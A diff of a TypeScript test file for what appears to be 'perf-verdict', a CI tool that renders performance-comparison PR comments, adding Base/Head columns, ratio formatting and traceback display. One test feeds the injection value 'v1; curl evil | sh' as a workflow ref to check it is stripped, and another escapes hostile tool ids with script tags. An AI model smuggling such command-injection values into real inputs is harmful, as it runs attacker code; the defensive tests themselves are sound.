@@ -11,14 +11,19 @@ import {
   renderTerminal,
 } from '../../src/report/render.js';
 import { worstVerdict, checkConclusion } from '../../src/report/model.js';
+import { formatTimeChange } from '../../src/report/render-format.js';
 import { parseUntrustedReport } from '../../src/report/artifact.js';
 import { casesReport, comparison, demoReport, evaluation, report, row } from './fixtures.js';
 
 const LINKS = { serverUrl: 'https://github.com', repository: 'octo/tools', runId: '42' };
 /** No-break spaces shown as `~`, so expected cells read plainly and still pin them down. */
 const show = (text: string): string => text.replaceAll('\u00a0', '~');
+/** The cells of `id`'s row, read as text (without the `<wbr>` wrap points of long ids). */
 function rowOf(body: string, id: string): string[] {
-  const line = body.split('\n').find((l) => l.startsWith('| ') && l.includes(`**${id}**`));
+  const line = body
+    .split('\n')
+    .map((l) => l.replaceAll('<wbr>', ''))
+    .find((l) => l.startsWith('| ') && l.includes(`**${id}**`));
   if (line === undefined) throw new Error(`no row for ${id}`);
   return show(line).slice(2, -2).split(' | ');
 }
@@ -58,15 +63,76 @@ describe('the PR comment', () => {
         `${COMMENT_MARKER}\n<!-- perf-verdict:digest=d1 -->\n## perf-verdict: ❌ REJECT — 1 rejected, 3 accepted (4 changed tools)`,
       ),
     ).toBe(true);
-    expect(show(body)).toContain('| Tool | Δ time (99~%~CI) | Δ~memory | Findings | Verdict |');
+    expect(show(body)).toContain(
+      '| Tool | Base | Head | Δ time (99~%~CI) | Δ~memory | Findings | Verdict |',
+    );
     expect(rowOf(body, 'slow_sort')).toEqual([
       '**slow_sort**',
-      '+202~% (+190 to +210~%)',
+      '1.00~ms',
+      '3.02~ms',
+      '3.0×~slower (2.9 to 3.1×)',
       '+202~%',
       'none',
       '❌~REJECT~12',
     ]);
-    expect(rowOf(body, 'fast_sum')[1]).toBe('−67~% (−69 to −65~%)');
+    expect(rowOf(body, 'fast_sum').slice(1, 4)).toEqual([
+      '1.00~ms',
+      '330~µs',
+      '3.0×~faster (2.9 to 3.2×)',
+    ]);
+  });
+
+  it.each([
+    [7.46, '7.5×~slower'],
+    [12.4, '12×~slower'],
+    [2, '2.0×~slower'],
+    [1.99, '+99~%'],
+    [0.51, '−49~%'],
+    [0.5, '2.0×~faster'],
+    [0.476, '2.1×~faster'],
+  ])('a time ratio of %d reads as people say it: %s', (ratio, text) => {
+    expect(show(formatTimeChange(ratio))).toBe(text);
+  });
+
+  it('a long id may wrap after / and _, never inside a number', () => {
+    const body = renderComment(casesReport(), {}, 'd');
+    expect(body).toContain(
+      '| **text/<wbr>normalize_<wbr>unicode_<wbr>whitespace_<wbr>v2** (new) |',
+    );
+    expect(renderTerminal(casesReport())).not.toContain('<wbr>');
+  });
+
+  it('BASE and HEAD times stand beside the change; large changes read as factors', () => {
+    const slow = row({
+      id: 'big',
+      verdict: 'REJECT',
+      score: 5,
+      comparison: comparison(7.46, 7.1, 7.9, 'regression', 2_000),
+    });
+    expect(rowOf(renderComment(report([slow]), {}, 'd'), 'big').slice(1, 4)).toEqual([
+      '2.00~µs',
+      '14.9~µs',
+      '7.5×~slower (7.1 to 7.9×)',
+    ]);
+  });
+
+  it('an inconclusive ACCEPT says why it is one, and what would settle it', () => {
+    const body = renderComment(casesReport(), {}, 'd');
+    expect(rowOf(body, 'steady')[3]).toBe(
+      '+1.0~% (−3.0 to +4.5~%) inconclusive: no slowdown above 5.0~% possible at 99~%',
+    );
+    expect(detailsOf(body, 'steady')).toContain(
+      '- inconclusive: the smallest change this run could tell from noise was ±5.9~%; a budget of about 286~s per tool (`time-budget-seconds`, `--budget`; this run had 20~s) would settle a change of +1.0~%',
+    );
+    const wide = row({
+      id: 'wide',
+      verdict: 'ACCEPT',
+      score: 81,
+      comparison: comparison(1.03, 0.95, 1.12, 'inconclusive'),
+    });
+    expect(rowOf(renderComment(report([wide]), {}, 'd'), 'wide')[3]).toBe(
+      '+3.0~% (−5.0 to +12~%) inconclusive (accepted: see why below)',
+    );
   });
 
   it('a legend under the table says what Δ, the interval and the score mean', () => {
@@ -80,7 +146,7 @@ describe('the PR comment', () => {
     expect(show(body)).toMatch(
       /<details><summary>1~tool unchanged within noise: quiet<\/summary>\n\n\| Tool [^\n]+\n[^\n]+\n\| \*\*quiet\*\*/,
     );
-    expect(rowOf(body, 'safe_eval')[3]).toBe('🔒~1 fixed: B307');
+    expect(rowOf(body, 'safe_eval')[5]).toBe('🔒~1 fixed: B307');
     expect(detailsOf(body, 'safe_eval')).toContain(
       '- fixed findings:\n  - B307 (HIGH) line~3: Use of possibly insecure function',
     );
@@ -96,6 +162,8 @@ describe('the PR comment', () => {
     expectTool(body, 'new_noinput_shell', {
       cells: [
         `[**new_noinput_shell**](https://github.com/octo/tools/blob/${'b'.repeat(40)}/tools/new_noinput_shell.py) (new)`,
+        '—',
+        '—',
         'new: not run',
         '—',
         '⚠️~1: B602',
@@ -130,8 +198,8 @@ describe('the PR comment', () => {
       {},
       'd',
     );
-    expect(rowOf(body, 'runs')[1]).toBe('new: 3.43~µs per call');
-    expect(rowOf(body, 'fails')[1]).toBe('head crashed: KeyError');
+    expect(rowOf(body, 'runs').slice(1, 4)).toEqual(['—', '3.43~µs', 'new: run alone']);
+    expect(rowOf(body, 'fails').slice(1, 4)).toEqual(['—', '—', 'head crashed: KeyError']);
     expect(detailsOf(body, 'runs')).toContain('**Run on its example (baseline)**');
     expect(detailsOf(body, 'fails')).toContain(
       '**Run on its example**\n- **head crashed: KeyError** — KeyError: x',
@@ -142,7 +210,7 @@ describe('the PR comment', () => {
     const body = renderComment(casesReport(), {}, 'd');
     expectTool(body, 'text/normalize_unicode_whitespace_v2', {
       from: 1,
-      cells: ['not measured: no test input', '—', 'none', '🟡~REVIEW~60'],
+      cells: ['—', '—', 'not measured: no test input', '—', 'none', '🟡~REVIEW~60'],
       details: 'add examples&#91;0&#93;.input to normalize_unicode_whitespace_v2.yaml',
     });
   });
@@ -150,26 +218,71 @@ describe('the PR comment', () => {
   it('a crashed head is a failure, never 0 ns or an unbounded interval', () => {
     const body = renderComment(casesReport(), {}, 'd');
     const details = expectTool(body, 'divide', {
-      cells: ['**divide**', 'head crashed: ZeroDivisionError', '—', 'none', '❌~REJECT~0'],
+      cells: [
+        '**divide**',
+        '1.00~ms',
+        '—',
+        'head crashed: ZeroDivisionError',
+        '—',
+        'none',
+        '❌~REJECT~0',
+      ],
       details: '- head: **head crashed: ZeroDivisionError** — ZeroDivisionError: division by zero',
     });
     for (const absurd of [/\b0~ns/, /1\.79/, /e\+308/, /0\.000/, /\b0~samples/])
       expect(details).not.toMatch(absurd);
   });
 
+  it('a crashed row shows the end of its traceback with repository paths; a base cut short says so', () => {
+    const c = comparison(1, 1, 1, 'inconclusive');
+    const crashed = row({
+      id: 'ratio',
+      path: 'tools/m/ratio.py',
+      verdict: 'REJECT',
+      score: 0,
+      comparison: {
+        ...c,
+        old: { ...c.old, samples: 0, calls_per_sample: 0, ns_per_call: 0 },
+        new: {
+          ...c.new,
+          error: {
+            kind: 'exception',
+            message: 'ZeroDivisionError: division by zero',
+            traceback:
+              '  File "/tmp/perf-verdict-new-Ab12Cd/tool.py", line 2, in process\n    return data[0] / 0\nZeroDivisionError: division by zero\n',
+          },
+        },
+      },
+    });
+    const details = detailsOf(renderComment(report([crashed]), {}, 'd'), 'ratio');
+    expect(details).toContain(
+      [
+        '- base: ran, not timed: the measurement stopped when the other version failed',
+        '- head: **head crashed: ZeroDivisionError** — ZeroDivisionError: division by zero',
+        '',
+        '```text',
+        '  File "tools/m/ratio.py", line 2, in process',
+        '    return data[0] / 0',
+        'ZeroDivisionError: division by zero',
+        '```',
+      ].join('\n'),
+    );
+    expect(details).not.toMatch(/perf-verdict-new|0~samples of 0~calls/);
+  });
+
   it('a crashed base is named as the base', () => {
     const body = renderComment(casesReport(), {}, 'd');
     expectTool(body, 'base_broken', {
       from: 1,
-      to: 3,
-      cells: ['base timed out: no answer within 10 s', '—'],
+      to: 5,
+      cells: ['—', '1.00~ms', 'base timed out: no answer within 10 s', '—'],
       details: '- base: **base timed out: no answer within 10 s**',
     });
   });
 
   it('an interval from too few pairs is not printed as one', () => {
     const body = renderComment(casesReport(), {}, 'd');
-    expect(rowOf(body, 'few_pairs')[1]).toBe('2 of 4 pairs: too few to say');
+    expect(rowOf(body, 'few_pairs')[3]).toBe('2 of 4 pairs: too few to say');
     const details = detailsOf(body, 'few_pairs');
     expect(details).toContain('- 2 of 4 process pairs: too few to say (no interval)');
     expect(details).not.toMatch(/interval \d|855|mermaid/);
@@ -178,7 +291,7 @@ describe('the PR comment', () => {
   it('a removed tool says so', () => {
     const body = renderComment(casesReport(), {}, 'd');
     expectTool(body, 'legacy_tool', {
-      cells: ['**legacy_tool** (removed)', '—', '—', '—', '🟡~REVIEW'],
+      cells: ['**legacy_tool** (removed)', '—', '—', '—', '—', '—', '🟡~REVIEW'],
       details: 'Removed at head',
     });
   });
@@ -189,7 +302,7 @@ describe('the PR comment', () => {
       '- To merge anyway, someone with write access adds the label `perf:ok` or comments `/perf-verdict accept`: the check then passes and this comment says who accepted.',
     );
     expect(body).toContain(
-      `- Reproduce locally, in a clone that has both commits: \`npx perf-verdict gate --base ${'c'.repeat(40)} --head ${'b'.repeat(40)} --budget 20\``,
+      `- Reproduce locally, in a clone that has both commits: \`perf-verdict gate --base ${'c'.repeat(40)} --head ${'b'.repeat(40)} --budget 20\``,
     );
     expect(body).toContain('REVIEW alone does not fail the check.');
     const accepted = renderComment(
@@ -204,6 +317,29 @@ describe('the PR comment', () => {
     expect(renderComment(report([row({ id: 'ok' })]), {}, 'd')).not.toContain('What to do next');
     expect(fine).toContain('What to do next');
   });
+
+  it.each([
+    [{ repository: 'octo/perf-verdict', ref: 'v1' }, 'npx --yes github:octo/perf-verdict#v1'],
+    [
+      { repository: 'octo/tools', ref: 'f'.repeat(40) },
+      `npx --yes github:octo/tools#${'f'.repeat(40)}`,
+    ],
+    // The ref comes from a workflow file the PR may have written: nothing but a ref survives.
+    [
+      { repository: 'octo/perf-verdict', ref: 'v1; curl evil | sh' },
+      'npx --yes github:octo/perf-verdict',
+    ],
+    [{ repository: 'octo/perf-verdict', ref: '../../x' }, 'npx --yes github:octo/perf-verdict'],
+    [{ repository: 'not a repo', ref: 'v1' }, 'perf-verdict'],
+  ])(
+    'the reproduce command runs the perf-verdict that ran (%o), never an npm name',
+    (action, cli) => {
+      const body = renderComment(casesReport(), { links: { ...LINKS, action } }, 'd');
+      expect(body).toContain(
+        `- Reproduce locally, in a clone that has both commits: \`${cli} gate --base ${'c'.repeat(40)} --head ${'b'.repeat(40)} --budget 20\``,
+      );
+    },
+  );
 
   it('links come from the values passed in: run, commits, files at the head sha', () => {
     const body = renderComment(casesReport(), { links: LINKS }, 'd');
@@ -234,13 +370,12 @@ describe('the PR comment', () => {
         'xychart-beta',
         '    title "slow_sort: head/base time per process pair"',
         '    x-axis "process pair" [1, 2, 3, 4]',
-        '    y-axis "time ratio head/base" 0.768 --> 3.312',
-        '    bar [2.95, 3.08, 3.01, 3.04]',
+        '    y-axis "time ratio head/base" 2.88 --> 3.12',
+        '    line [2.95, 3.08, 3.01, 3.04]',
         '    line [2.9, 2.9, 2.9, 2.9]',
         '    line [3.1, 3.1, 3.1, 3.1]',
-        '    line [0.98, 0.98, 0.98, 0.98]',
-        '    line [1.02, 1.02, 1.02, 1.02]',
         '```',
+        "<sub>The jagged line: each process pair's ratio, in run order. Flat lines: the 99~% interval 2.9–3.1; the noise zone 0.98–1.02 lies far below, off the chart.</sub>",
       ].join('\n'),
     );
     expect(body.match(/```mermaid/g)).toHaveLength(1);
@@ -429,8 +564,8 @@ describe('escaping untrusted text', () => {
   it('a hostile tool id cannot break the table, mention anyone or inject HTML', () => {
     const line = renderRow(row({ id: hostile }));
     expect(line.split('\n')).toHaveLength(1);
-    // 5 columns: 6 unescaped pipes.
-    expect(line.match(/\|/g)).toHaveLength(6);
+    // 7 columns: 8 unescaped pipes.
+    expect(line.match(/\|/g)).toHaveLength(8);
     expect(line).not.toMatch(/@octocat|<script>|<\/details>|`/);
   });
 
